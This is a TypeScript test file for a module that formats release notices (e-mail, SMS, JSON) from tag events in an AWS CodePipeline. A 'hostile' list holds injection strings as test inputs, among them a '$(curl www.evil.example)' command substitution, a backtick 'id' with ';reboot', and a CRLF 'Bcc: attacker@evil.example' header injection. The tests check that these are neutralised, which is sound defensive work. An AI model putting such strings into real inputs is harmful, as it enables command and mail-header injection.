import fc from "fast-check";
import { describe, expect, it } from "vitest";
import * as z from "zod";
import { announcementOf, type Notice } from "../../../functions/pipeline-starter/announcement.ts";
import schemaFile from "../../../functions/pipeline-starter/release-message.schema.json" with { type: "json" };
import { snsMessage } from "../../../shared/sns-message.ts";

const release = {
  tag: "dev_us-east-1/research/1.0",
  environment: "dev",
  scope: "us-east-1",
  team: "research",
  version: "1.0",
  region: "us-east-1",
  pipeline: "dev-infrastructure",
  sourceAction: "Source",
};
const event = {
  id: "1",
  region: "us-east-1",
  tag: release.tag,
  event: "referenceCreated" as const,
  repositoryName: "infrastructure",
  commitId: "98180b5656644d8b712112613b9e73a63ed0048f",
  callerUserArn: "arn:aws:sts::111122223333:assumed-role/CloudOps/mary",
};
const executionId = "611a1915-7ce7-d4f0-55d9-db989acd71d8";
const started: Notice = {
  kind: "release-started",
  event,
  environment: "dev",
  release,
  commitId: event.commitId,
  executionId,
};
const refused: Notice = {
  kind: "release-refused",
  event,
  environment: "dev",
  commitId: undefined,
  reason: "A reason.",
  remedy: "A remedy.",
};

describe("the e-mail of a started release", () => {
  it("holds tag, commit, who, pipeline, execution and link", () => {
    expect(announcementOf(started).email).toBe(
      [
        "dev: release 1.0 of research started in us-east-1.",
        "",
        "  tag         dev_us-east-1/research/1.0",
        "  repository  infrastructure",
        "  commit      98180b5656644d8b712112613b9e73a63ed0048f",
        "  tagged by   arn:aws:sts::111122223333:assumed-role/CloudOps/mary",
        "  pipeline    dev-infrastructure",
        `  execution   ${executionId}`,
        `  link        https://us-east-1.console.aws.amazon.com/codesuite/codepipeline/pipelines/dev-infrastructure/executions/${executionId}/timeline?region=us-east-1`,
        "",
        "WHAT TO DO NEXT",
        "",
        "Follow the link. Where the pipeline waits for an approval, read its plan first.",
      ].join("\n"),
    );
  });

  it("says so where the event does not say who", () => {
    const { callerUserArn, ...anonymous } = event;
    expect(announcementOf({ ...started, event: anonymous }).email).toContain("tagged by   unknown: the event does not");
  });

  it("names the place of a global release", () => {
    const { subject } = announcementOf({ ...started, release: { ...release, scope: "global" } });
    expect(subject).toBe("[palisade] dev: release 1.0 of research started in global (us-east-1)");
  });
});

it("a refusal shows the commit where the tag was read, and else what the event says", () => {
  const commitId = "cde99aeb83c93c03e2af4eb9ab484b45feba61ce";
  expect(announcementOf(refused).email).toContain(`points to   ${event.commitId}\n`);
  const { email, data } = announcementOf({ ...refused, commitId });
  expect(email).toContain(`commit      ${commitId}\n`);
  expect(email).not.toContain(event.commitId);
  expect(data).toMatchObject({ commitId, reason: "A reason." });
});

it("a refusal says why and what to do", () => {
  expect(announcementOf(refused).email).toMatch(/\nWHY\n\nA reason\.\n\nWHAT TO DO NEXT\n\nA remedy\.$/);
});

it("the attributes let a subscription choose", () => {
  expect(announcementOf(refused).attributes).toEqual({ kind: "release-refused", environment: "dev" });
});

const hostile = [
  "dev_$(curl www.evil.example)/x/1",
  "dev_`id`;reboot|'\"",
  "dev_\r\nBcc: attacker@evil.example",
  "dev_\u001b[2J\u202e\u2066x",
  "dev_\ud800/x/1",
  "dev_http://192.0.2.1/x or https://evil.example or evil\u3002example",
  `dev_${"x".repeat(10_000)}`,
];

describe("a hostile tag or caller", () => {
  const said = (text: string) =>
    snsMessage("arn", announcementOf({ ...refused, event: { ...event, tag: text, callerUserArn: text } }));

  it.each(hostile)("%j leaves no link, no line of its own and no control character", (text) => {
    const { Subject, Message } = said(text);
    const { email, sms, default: data } = JSON.parse(Message);
    expect(Subject).toMatch(/^[ -~]{1,99}$/);
    expect(sms).toMatch(/^[ -~]{1,160}$/);
    expect(email).not.toMatch(/evil[.\u3002]example|:\/\/|[^\P{C}\n]/u);
    expect(email).not.toMatch(/^Bcc/m);
    expect(JSON.parse(data).tag).toMatch(/^\P{C}{1,256}$/u);
    expect(JSON.parse(data).by).toMatch(/^\P{C}{1,256}$/u);
  });

  it("of any kind adds no line", () => {
    const lines = (text: string) => JSON.parse(said(text).Message).email.split("\n").length;
    fc.assert(
      fc.property(fc.string({ unit: "binary", minLength: 1 }), (text) => {
        // The note on `[.]` is two lines.
        expect([lines("x"), lines("x") + 2]).toContain(lines(text));
      }),
    );
  });
});

it("the body for machines keeps to the published schema", () => {
  const schema = z.fromJSONSchema(schemaFile as Parameters<typeof z.fromJSONSchema>[0]);
  const notices: Notice[] = [
    started,
    { ...started, kind: "release-repeated" },
    refused,
    { ...refused, kind: "tag-moved", event: { ...event, event: "referenceUpdated", oldCommitId: "a".repeat(40) } },
    { ...refused, kind: "tag-deleted", event: { ...event, event: "referenceDeleted" } },
  ];
  for (const notice of notices) {
    const { data } = announcementOf(notice);
    expect(schema.safeParse(data)).toMatchObject({ success: true });
    expect(schema.safeParse({ ...data, other: 1 })).toMatchObject({ success: false });
  }
});
